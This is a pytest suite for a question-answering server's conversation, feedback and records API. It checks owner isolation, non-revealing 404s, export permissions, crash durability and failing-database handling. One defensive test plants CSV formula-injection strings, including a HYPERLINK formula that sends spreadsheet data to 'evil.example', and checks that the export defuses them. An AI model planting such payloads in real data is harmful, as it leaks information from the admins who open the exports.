"""Conversations, answer records and feedback through a real `qa serve` on loopback (issue 13 §1-2):
owners kept apart (keys, and browsers when reading anonymously), foreign or unknown ids answered 404
without revealing anything, bad feedback refused, and records that survive a restart and a kill -9
of the server in the middle of writing."""
from __future__ import annotations

import json
import os
import re
import signal
import sqlite3
import threading

import httpx
import pytest
from conftest import (ADMIN, ADMIN_KEY, READER, READER_KEY, app_client, copy_index, start_server, stop_server,
                      wait_for, wait_ready)

OTHER_KEY = "test-reader-key-other-89"
OTHER = {"X-API-Key": OTHER_KEY}
KEYS = f"admin:{ADMIN_KEY},reader:{READER_KEY},reader:{OTHER_KEY}"
Q1, Q2 = "2025年市场主体目标是多少？", "那2020年呢？"


@pytest.fixture(scope="module")
def server(tmp_path_factory, corpus_service, model_dir):
    root = tmp_path_factory.mktemp("conversations")
    live = start_server(copy_index(corpus_service, root / "kb"), model_dir, root / "server.log",
                        QA_API_KEYS=KEYS, QA_ALLOW_ANONYMOUS_READ="true")
    yield live
    stop_server(live)


def ask(server, headers: dict, question: str = Q1, **body) -> dict:
    r = httpx.post(f"{server.url}/api/v1/ask", headers=headers, json={"question": question, **body}, timeout=120)
    assert r.status_code == 200, r.text
    return r.json()


def conversations(server, headers: dict) -> list[dict]:
    r = httpx.get(f"{server.url}/api/v1/conversations", headers=headers)
    assert r.status_code == 200, r.text
    return r.json()["conversations"]


def test_a_follow_up_takes_its_history_from_the_stored_conversation(server):
    first = ask(server, READER)
    assert first["answer"] == "650万户" and first["answer_id"] and first["conversation_id"]
    follow = ask(server, READER, Q2, conversation_id=first["conversation_id"])
    assert follow["rewritten_question"] == "2020年市场主体目标是多少" and follow["answer"] == "488.84万户"
    assert follow["conversation_id"] == first["conversation_id"]
    detail = httpx.get(f"{server.url}/api/v1/conversations/{first['conversation_id']}", headers=READER).json()
    assert detail["title"] == Q1 and [t["question"] for t in detail["turns"]] == [Q1, Q2]
    # the answer and its citations as they were shown
    shown = detail["turns"][1]["answer"]
    assert shown["citations"] == follow["citations"] and shown["answer_id"] == follow["answer_id"]


def test_the_chat_stream_gives_the_answer_and_conversation_ids_in_done(server):
    with httpx.stream("POST", f"{server.url}/api/v1/chat", headers=READER, json={"question": Q1}, timeout=120) as r:
        body = r.read().decode()
    out = json.loads(re.search(r"event: done\r?\ndata: (.*)", body).group(1))
    assert out["answer_id"] and out["conversation_id"]
    trace = httpx.get(f"{server.url}/api/v1/answers/{out['answer_id']}", headers=READER).json()
    assert trace["question"] == Q1 and trace["trace"]["answered_by"]["extractor"] == "table_cell"


def test_two_readers_never_see_each_others_conversations(server):
    mine = ask(server, READER, "贵州2020年新设立市场主体多少户？")
    theirs = ask(server, OTHER, "湖南查扣非法口罩多少只？")
    assert mine["conversation_id"] not in {c["conversation_id"] for c in conversations(server, OTHER)}
    assert theirs["conversation_id"] not in {c["conversation_id"] for c in conversations(server, READER)}
    owners = {c["owner"] for c in conversations(server, OTHER)}, {c["owner"] for c in conversations(server, READER)}
    assert len(owners[0]) == len(owners[1]) == 1 and owners[0] != owners[1]
    assert READER_KEY not in str(owners) and OTHER_KEY not in str(owners)  # a key id, never the key
    # the admin reads both, asked for everyone's
    everyone = httpx.get(f"{server.url}/api/v1/conversations?all=true", headers=ADMIN).json()["conversations"]
    assert {mine["conversation_id"], theirs["conversation_id"]} <= {c["conversation_id"] for c in everyone}
    assert httpx.get(f"{server.url}/api/v1/conversations/{mine['conversation_id']}", headers=ADMIN).status_code == 200


def test_anonymous_browsers_are_kept_apart_by_their_client_id(server):
    a, b = {"X-Client-ID": "browser-aaaa-0001"}, {"X-Client-ID": "browser-bbbb-0002"}
    mine = ask(server, a)
    assert mine["conversation_id"]
    assert [c["conversation_id"] for c in conversations(server, a)] == [mine["conversation_id"]]
    assert conversations(server, b) == []
    assert httpx.get(f"{server.url}/api/v1/conversations/{mine['conversation_id']}", headers=b).status_code == 404
    # without an id the answer is recorded (for the admin) but nobody can continue or read it
    nobody = ask(server, {})
    assert nobody["answer_id"] and nobody["conversation_id"] is None
    assert conversations(server, {}) == []
    assert httpx.get(f"{server.url}/api/v1/answers/{nobody['answer_id']}", headers={}).status_code == 404
    # a malformed id is no id: it reads nothing of anyone's
    r = httpx.get(f"{server.url}/api/v1/conversations", headers={"X-Client-ID": "null"})
    assert r.status_code == 200 and r.json()["conversations"] == []


def test_visitors_sharing_one_key_are_kept_apart_by_their_browser(server):
    """A portal page carrying one reader key for every visitor: each browser sees only its own."""
    a, b = {**OTHER, "X-Client-ID": "portal-visitor-a1"}, {**OTHER, "X-Client-ID": "portal-visitor-b2"}
    mine = ask(server, a, "贵州2020年新设立市场主体多少户？")
    assert mine["conversation_id"] in [c["conversation_id"] for c in conversations(server, a)]
    assert mine["conversation_id"] not in [c["conversation_id"] for c in conversations(server, b)]
    assert httpx.get(f"{server.url}/api/v1/conversations/{mine['conversation_id']}", headers=b).status_code == 404
    assert httpx.get(f"{server.url}/api/v1/answers/{mine['answer_id']}", headers=b).status_code == 404
    # an integration naming no browser files under the key alone, apart from the browsers under it
    assert mine["conversation_id"] not in [c["conversation_id"] for c in conversations(server, OTHER)]
    follow = ask(server, a, "那2021年呢？", conversation_id=mine["conversation_id"])
    assert follow["conversation_id"] == mine["conversation_id"]


def test_another_keys_conversation_id_is_not_found(server):
    theirs = ask(server, OTHER)
    cid = theirs["conversation_id"]
    missing = "0" * 32
    for target in (cid, missing):
        responses = [
            httpx.post(f"{server.url}/api/v1/ask", headers=READER, json={"question": Q2, "conversation_id": target}),
            httpx.post(f"{server.url}/api/v1/chat", headers=READER, json={"question": Q2, "conversation_id": target}),
            httpx.get(f"{server.url}/api/v1/conversations/{target}", headers=READER),
            httpx.patch(f"{server.url}/api/v1/conversations/{target}", headers=READER, json={"title": "x"}),
            httpx.delete(f"{server.url}/api/v1/conversations/{target}", headers=READER),
        ]
        for r in responses:
            # the same answer for someone else's and for none at all: existence is not revealed
            assert r.status_code == 404, r.text
            assert r.json()["error"]["code"] == "conversation_not_found"
            assert Q1 not in r.text
    assert httpx.get(f"{server.url}/api/v1/conversations/{cid}", headers=OTHER).json()["title"] == Q1


def test_feedback_on_an_unknown_or_foreign_answer_is_not_found(server):
    theirs = ask(server, OTHER)
    for answer_id in (theirs["answer_id"], "f" * 32, "no-such-answer"):
        for r in (httpx.put(f"{server.url}/api/v1/answers/{answer_id}/feedback", headers=READER, json={"vote": "down"}),
                  httpx.delete(f"{server.url}/api/v1/answers/{answer_id}/feedback", headers=READER),
                  httpx.get(f"{server.url}/api/v1/answers/{answer_id}", headers=READER)):
            assert r.status_code == 404, r.text
            assert r.json()["error"]["code"] == "answer_not_found"
    assert httpx.get(f"{server.url}/api/v1/answers/{theirs['answer_id']}", headers=OTHER).json()["feedback"] is None


def test_a_ten_thousand_character_comment_is_refused(server):
    mine = ask(server, READER)
    url = f"{server.url}/api/v1/answers/{mine['answer_id']}/feedback"
    r = httpx.put(url, headers=READER, json={"vote": "down", "reason": "其他", "comment": "长" * 10_000})
    assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_request"
    assert httpx.put(url, headers=READER, json={"vote": "sideways"}).status_code == 422
    assert httpx.put(url, headers=READER, json={"vote": "down", "reason": "不喜欢"}).status_code == 422
    assert httpx.get(f"{server.url}/api/v1/answers/{mine['answer_id']}", headers=READER).json()["feedback"] is None


def test_feedback_is_saved_changed_deleted_and_counted(server):
    mine = ask(server, READER, "湖南查扣非法口罩多少只？")
    url = f"{server.url}/api/v1/answers/{mine['answer_id']}/feedback"
    r = httpx.put(url, headers=READER, json={"vote": "down", "reason": "引用不对", "comment": "不是这份文件"})
    assert r.status_code == 200 and r.json()["reason"] == "引用不对"
    assert httpx.put(url, headers=READER, json={"vote": "up"}).json()["vote"] == "up"
    trace = httpx.get(f"{server.url}/api/v1/answers/{mine['answer_id']}", headers=READER).json()
    assert trace["feedback"]["vote"] == "up"
    assert trace["trace"]["kb"] == "default" and trace["trace"]["index_version"] == trace["index_version"]
    assert httpx.delete(url, headers=READER).status_code == 200
    assert httpx.get(f"{server.url}/api/v1/answers/{mine['answer_id']}", headers=READER).json()["feedback"] is None
    metrics = httpx.get(f"{server.url}/metrics").text
    assert 'qa_feedback_total{kb="default",reason="引用不对",vote="down"}' in metrics
    assert 'qa_feedback_total{kb="default",reason="none",vote="up"}' in metrics


def test_rename_and_delete_a_conversation(server):
    mine = ask(server, READER)
    url = f"{server.url}/api/v1/conversations/{mine['conversation_id']}"
    assert httpx.patch(url, headers=READER, json={"title": "  市场主体目标 "}).json()["title"] == "市场主体目标"
    assert httpx.patch(url, headers=READER, json={"title": ""}).status_code == 422
    assert httpx.delete(url, headers=READER).json() == {"deleted": mine["conversation_id"]}
    assert httpx.get(url, headers=READER).status_code == 404
    assert httpx.get(f"{server.url}/api/v1/answers/{mine['answer_id']}", headers=READER).status_code == 404


def test_the_admin_exports_a_date_range_and_readers_cannot(server):
    mine = ask(server, READER, "株洲5年来市场主体增加了多少？")
    csv_text = httpx.get(f"{server.url}/api/v1/records/export?format=csv", headers=ADMIN).text
    assert csv_text.startswith("\ufeffanswer_id,conversation_id,owner") and mine["answer_id"] in csv_text
    lines = httpx.get(f"{server.url}/api/v1/records/export?format=jsonl&since=2000-01-01&until=2000-01-02",
                      headers=ADMIN).text
    assert lines == ""
    assert httpx.get(f"{server.url}/api/v1/records/export", headers=READER).status_code == 403
    assert httpx.get(f"{server.url}/api/v1/records/export?since=2026-02-30", headers=ADMIN).status_code == 422


def test_no_question_text_reaches_the_access_log(server):
    ask(server, READER, "贵州2020年新设立市场主体多少户？")
    log = server.log.read_text()
    assert '"route": "/api/v1/ask"' in log
    assert "贵州2020年新设立" not in log


def test_records_survive_a_restart_and_a_kill_mid_write(tmp_path, corpus_service, model_dir):
    index = copy_index(corpus_service, tmp_path / "kb")
    live = start_server(index, model_dir, tmp_path / "first.log")
    try:
        before = ask(live, READER)
        stop_server(live)  # a clean restart first
        live = start_server(index, model_dir, tmp_path / "second.log")
        assert httpx.get(f"{live.url}/api/v1/answers/{before['answer_id']}", headers=READER).status_code == 200

        # Then asks fired one after another while the server is killed: every answer the client got
        # back was committed before it was sent, so it must be there after the restart.
        got: list[str] = []
        stop = threading.Event()

        def fire() -> None:
            while not stop.is_set():
                try:
                    got.append(ask(live, READER, Q2, conversation_id=before["conversation_id"])["answer_id"])
                except (httpx.TransportError, AssertionError):
                    return

        thread = threading.Thread(target=fire)
        thread.start()
        wait_for(lambda: len(got) >= 3, lambda: f"{len(got)} answers so far")
        os.kill(live.process.pid, signal.SIGKILL)
        live.process.wait()
        stop.set()
        thread.join()
    finally:
        stop_server(live)

    db = index / "records" / "records.db"
    assert sqlite3.connect(db).execute("PRAGMA integrity_check").fetchone() == ("ok",)
    live = start_server(index, model_dir, tmp_path / "third.log")
    try:
        for answer_id in [before["answer_id"], *got]:
            r = httpx.get(f"{live.url}/api/v1/answers/{answer_id}", headers=READER)
            assert r.status_code == 200, (answer_id, r.text)
        turns = httpx.get(f"{live.url}/api/v1/conversations/{before['conversation_id']}", headers=READER).json()["turns"]
        assert len(turns) >= 1 + len(got)
    finally:
        stop_server(live)


def test_with_records_off_nothing_is_kept_and_the_request_history_is_used(corpus_service):
    with app_client(corpus_service, records="off") as client:
        wait_ready(client)
        first = client.post("/api/v1/ask", headers=READER, json={"question": Q1}).json()
        assert first["answer_id"] is None and first["conversation_id"] is None
        follow = client.post("/api/v1/ask", headers=READER,
                             json={"question": Q2, "history": [Q1], "conversation_id": "0" * 32}).json()
        assert follow["answer"] == "488.84万户"
        assert client.get("/api/v1/conversations", headers=READER).json() == {"records": "off", "conversations": []}
        assert client.get(f"/api/v1/conversations/{'0' * 32}", headers=READER).status_code == 404
        assert client.put(f"/api/v1/answers/{'0' * 32}/feedback", headers=READER, json={"vote": "up"}).status_code == 404


# ----- review of issue 13: bad input and a failing database, in process over a private records database -----

def records_client(corpus_service, tmp_path, **overrides):
    return app_client(corpus_service, records_url=f"sqlite:///{tmp_path / 'records.db'}", eval_dir=tmp_path / "evalsets",
                      **overrides)


def test_the_last_representable_day_as_until_is_not_a_server_error(corpus_service, tmp_path):
    # until is inclusive, so the range ends the day after: 9999-12-31 has none.
    with records_client(corpus_service, tmp_path) as client:
        wait_ready(client)
        mine = client.post("/api/v1/ask", headers=READER, json={"question": Q1}).json()
        r = client.get("/api/v1/records/export?format=jsonl&until=9999-12-31", headers=ADMIN)
        assert r.status_code == 200 and mine["answer_id"] in r.text
        r = client.get("/api/v1/analysis?since=9999-12-31&until=9999-12-31", headers=ADMIN)
        assert r.status_code == 200 and r.json()["groups"] == []


def test_the_csv_export_does_not_hand_excel_a_formula_from_a_question(corpus_service, tmp_path):
    # Anyone who may ask can plant a question that Excel would run as a formula when the admin opens the export.
    import csv as csv_module
    import io

    planted = ['=HYPERLINK("http://evil.example/?"&A2,"2025年市场主体目标")', "+1+2 市场主体目标", "@SUM(1) 市场主体目标",
               "-2+3 市场主体目标"]
    with records_client(corpus_service, tmp_path) as client:
        wait_ready(client)
        for q in planted:
            assert client.post("/api/v1/ask", headers=READER, json={"question": q}).status_code == 200
        text = client.get("/api/v1/records/export?format=csv", headers=ADMIN).text
        rows = list(csv_module.DictReader(io.StringIO(text.lstrip("\ufeff"))))
        assert len(rows) == len(planted)
        for row in rows:
            for column in ("question", "rewritten_question", "answer"):
                assert not row[column].startswith(("=", "+", "-", "@")), row[column]
        assert {row["question"].lstrip("'") for row in rows} == set(planted)  # defused, not altered
        jsonl = client.get("/api/v1/records/export?format=jsonl", headers=ADMIN).text
        assert {json.loads(line)["question"] for line in jsonl.splitlines()} == set(planted)  # JSONL as asked


def test_a_failing_records_database_costs_the_record_not_the_answer_nor_the_question_in_the_log(
        corpus_service, tmp_path, caplog):
    secret = "身份证号110101199001011234的人2025年市场主体目标是多少？"
    with records_client(corpus_service, tmp_path) as client:
        wait_ready(client)
        first = client.post("/api/v1/ask", headers=READER, json={"question": Q1}).json()
        db = sqlite3.connect(tmp_path / "records.db")
        # Every write refused (a full disk, a read-only file)...
        db.execute("CREATE TRIGGER refuse BEFORE INSERT ON answers BEGIN SELECT RAISE(ABORT, 'disk full'); END")
        db.commit()
        r = client.post("/api/v1/ask", headers=READER, json={"question": secret})
        assert r.status_code == 200 and r.json()["citations"] and r.json()["answer_id"] is None
        # ...and then reads too (a database server gone, a damaged file): a follow-up still gets its answer,
        # from the history the client sent.
        db.execute("ALTER TABLE conversations RENAME TO conversations_gone")
        db.commit()
        db.close()
        r = client.post("/api/v1/ask", headers=READER, json={"question": Q2, "history": [Q1],
                                                             "conversation_id": first["conversation_id"]})
        assert r.status_code == 200, r.text
        assert r.json()["answer"] == "488.84万户"
    assert "could not be recorded" in caplog.text
    assert "110101199001011234" not in caplog.text and "身份证号" not in caplog.text


def test_a_records_file_that_is_not_a_database_does_not_stop_the_service(corpus_service, tmp_path):
    (tmp_path / "records.db").write_bytes(b"this is not a database, it is a text file\n" * 200)
    with records_client(corpus_service, tmp_path) as client:
        wait_ready(client)
        r = client.post("/api/v1/ask", headers=READER, json={"question": Q1})
        assert r.status_code == 200 and r.json()["answer"] == "650万户" and r.json()["answer_id"] is None
    assert (tmp_path / "records.db").read_bytes().startswith(b"this is not a database")  # left for the admin
